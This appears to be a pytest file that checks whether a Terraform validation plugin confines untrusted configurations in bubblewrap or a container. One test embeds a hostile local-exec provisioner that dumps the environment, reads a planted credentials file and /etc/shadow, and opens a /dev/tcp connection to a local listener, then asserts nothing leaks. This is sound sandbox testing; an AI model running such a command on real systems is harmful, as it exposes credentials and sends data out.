"""A stranger's Terraform in its jail, with a real emulator: it is deployed, and finds nothing of this machine."""

from __future__ import annotations

import os
import shutil
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from pytest_lsqm.errors import UsageError
from pytest_lsqm.process import container, jail
from pytest_lsqm.validation import confinement
from tests.hostile.outside import Outside
from tests.support import architectures
from tests.support.engines import without_bubblewrap

if TYPE_CHECKING:
    from pathlib import Path

    from pytest_lsqm.terraform.engine import Engine
    from tests.support.architectures import Bench

SECRET = "a-secret-of-the-caller"


@pytest.fixture(autouse=True)
def bubblewrap() -> None:
    if (reason := jail.unavailable()) is not None:
        if os.environ.get("LSQM_REQUIRE_JAIL"):
            pytest.fail(reason)
        pytest.skip(reason)


@pytest.mark.slow
@pytest.mark.parametrize("means", ["bubblewrap", "a container"])
def test_what_terraform_executes_finds_neither_files_nor_secrets_nor_a_way_out(
    bench: Bench, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, means: str
) -> None:
    if means == "a container":
        without_bubblewrap(monkeypatch)
    assert confinement.kind().means == means
    (tmp_path / "credentials").write_text(SECRET)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    places = f"{tmp_path}/credentials /etc/shadow"
    with Outside() as outside:
        terraform = f"""
        provider "aws" {{
          alias  = "elsewhere"
          region = "eu-west-1"
          endpoints {{
            sqs = "{outside.endpoint}"
            sts = "{outside.endpoint}"
          }}
        }}
        resource "aws_sqs_queue" "it" {{
          name = "it"
          provisioner "local-exec" {{
            interpreter = ["/bin/bash", "-c"]
            command     = "env; cat {places}; echo > /dev/tcp/127.0.0.1/{outside.port}; echo began; true"
          }}
        }}
        resource "aws_sqs_queue" "there" {{
          provider = aws.elsewhere
          name     = "there"
        }}
        """
        result = replace(bench, confined=True).validate(terraform, architectures.PASSES)
    assert (result.status, result.error_message) == ("PASSED", None)
    assert result.terraform_apply is not None
    assert "began" in result.terraform_apply.logs, "the program was run"
    assert SECRET not in result.model_dump_json()
    assert "root:" not in result.terraform_apply.logs
    assert outside.paths == []


@pytest.mark.slow
def test_a_validation_says_the_same_with_and_without_a_jail(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    found = []
    for name, confined in (("with", True), ("without", False), ("in a container", True)):
        if name == "in a container":
            without_bubblewrap(monkeypatch)
        once = replace(bench, root=bench.root / name, confined=confined)
        found.append(once.validate(architectures.QUEUE, architectures.READS_QUEUE))
    assert [each.status for each in found] == ["PASSED", "PASSED", "PASSED"]
    assert found[0].operations == found[1].operations == found[2].operations
    stages = [[stage.name for stage in each.stages] for each in found]
    assert stages[0] == stages[1] == stages[2]


def test_strict_runs_nothing_where_nothing_can_be_confined(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(confinement, "unavailable", lambda _: "bubblewrap is not installed")
    with pytest.raises(UsageError, match="bubblewrap is not installed"):
        confinement.wanted("strict", engine)
    assert confinement.wanted("auto", engine) == (False, "bubblewrap is not installed")


def test_without_bubblewrap_and_an_engine_both_are_named(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(jail, "unavailable", lambda: "bubblewrap is not installed")
    monkeypatch.setattr(container, "unavailable", lambda: "docker is not installed")
    reason = confinement.unavailable.__wrapped__(engine)
    assert reason == "bubblewrap is not installed, and docker is not installed"


def test_an_engine_on_another_machine_makes_no_jail(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOCKER_HOST", "tcp://docker:2375")
    monkeypatch.setattr(shutil, "which", lambda _: "/usr/bin/docker")
    assert container.unavailable.__wrapped__() == "the container engine is not on this machine"


def test_off_confines_nothing_though_it_could_be(engine: Engine) -> None:
    assert confinement.wanted("off", engine) == (False, "--lsqm-sandbox off")
    assert confinement.wanted("auto", engine) == (True, None)


def test_an_engine_that_does_not_start_in_a_jail_is_told(engine: Engine, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.write_text("#!/bin/sh\nexit 0\n")
    shim = tmp_path / "terraform"
    shim.write_text(f"#!/bin/sh\nexec {elsewhere}\n")
    shim.chmod(0o755)
    reason = confinement.unavailable(replace(engine, argv=(str(shim),)))
    assert reason is not None
    assert "does not start in bubblewrap" in reason
